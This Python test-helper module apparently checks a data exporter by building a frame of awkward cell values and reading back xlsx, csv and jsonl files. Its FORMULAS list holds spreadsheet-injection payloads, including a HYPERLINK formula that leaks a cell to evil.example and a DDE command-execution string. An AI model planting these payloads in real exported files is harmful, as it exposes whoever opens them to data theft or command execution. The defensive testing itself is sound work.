"""Read exported files as other programs do, and a frame that makes all of it hard."""

import json
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
from openpyxl.utils.escape import unescape

KINDS = (".xlsx", ".csv", ".parquet", ".jsonl")

Rows = list[dict[str, Any]]

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"看这里")',
    "=cmd|'/c calc'!A1",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "  =1+1",
    "\u3000=1+1",
    "\u200b=1",
    "\ufeff=1",
    "'=1",
    '"=1',
    "''＝1",
    "{=1+1}",
)
NUMBERS = (
    "12345678901234567",
    "007",
    "0",
    "1e5",
    "1E400",
    "0x10",
    "1/2",
    "3-4",
    "12:30",
    "10%",
    "１２３",
    "TRUE",
)
MARKUP = ("<b>粗</b> &amp;", "<r>", "<r></r>", "<r>&</r>", "<r><t>x</t></r>", "</t></is>", "<![CDATA[x]]>")
BLANK = (
    " ",
    "\n",
    "a\nb",
    "a\r\nb",
    "\r",
    "a\rb",
    " before and after ",
    "\t",
    "\u2028",
    "\x85",
    ",",
    '"',
    '","',
    ";=1",
)
UNSEEN = (
    "\x01",
    "\x0b",
    "\x1f",
    "\x7f",
    "\ufffe",
    "\uffff",
    "\u202eabc\u202c",
    "_x0041_",
    "_x000D_",
)
WORDS = (
    "NA",
    "null",
    "None",
    "nan",
    "#N/A",
    "http://example.com",
    "mailto:a@example.com",
    "👩‍👩‍👧‍👦🎉",
    "你好",
)
HOSTILE = (*FORMULAS, *NUMBERS, *MARKUP, *BLANK, *UNSEEN, *WORDS)
ZONES = ("Asia/Shanghai", "UTC", "America/New_York", "Asia/Kathmandu", "+05:30", "-11:00")


def hostile() -> pd.DataFrame:
    """Make a frame of every hostile text, with ids and times that are easily lost."""
    count = len(HOSTILE)
    seconds = pd.Series(range(count)) * 7_777_777 + 1_700_000_000
    times = pd.to_datetime(seconds * 1_000_000 + 123_456, unit="us", utc=True)
    return pd.DataFrame(
        {
            "qq": [str(10**16 + 1 + number) for number in range(count)],
            "id": [f"00{number}" for number in range(count)],
            "content": pd.Series(HOSTILE, dtype="str"),
            "msg_time": times.dt.tz_convert("Asia/Shanghai"),
            "in New York": times.dt.tz_convert("America/New_York"),
            "member_count": pd.array([None, *range(1, count)], dtype="Int64"),
            "own": pd.array([None, *(number % 2 == 0 for number in range(1, count))], dtype="boolean"),
            "=1+1": pd.Series([f"=A{number}" for number in range(count)]),
        }
    )


def read_xlsx(path: Path, formulas: frozenset[str] = frozenset()) -> Rows:
    """Read the one sheet of a workbook, in which nothing but the given formulas may be computed."""
    (sheet,) = openpyxl.load_workbook(path).worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {str(cell.value) for cell in cells if cell.data_type == "f"} <= formulas
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    (sheet,) = openpyxl.load_workbook(path, data_only=True).worksheets
    names, *rows = [[_value(cell.value) for cell in row] for row in sheet.iter_rows()]
    return [dict(zip(names, row, strict=True)) for row in rows]


def _value(value: Any) -> Any:
    # In the file, Excel's own escape stands for what XML cannot hold.
    return unescape(value) if isinstance(value, str) else value


def read_csv(path: Path) -> Rows:
    """Read a csv as the documentation says; an empty text is what is missing, too."""
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    return [{str(name): value or None for name, value in row.items()} for row in frame.to_dict("records")]


def read_jsonl(path: Path) -> Rows:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def instants(texts: list[Any]) -> list[Any]:
    """Read ISO 8601 texts with offsets as instants, None for what is missing."""
    read = pd.to_datetime(pd.Series(texts, dtype="str"), utc=True, format="ISO8601")
    return _or_none(read.tolist())


def in_utc(times: "pd.Series[Any]") -> list[Any]:
    return _or_none(times.dt.tz_convert("UTC").tolist())


def _or_none(moments: list[Any]) -> list[Any]:
    return [None if pd.isna(one) else one for one in moments]
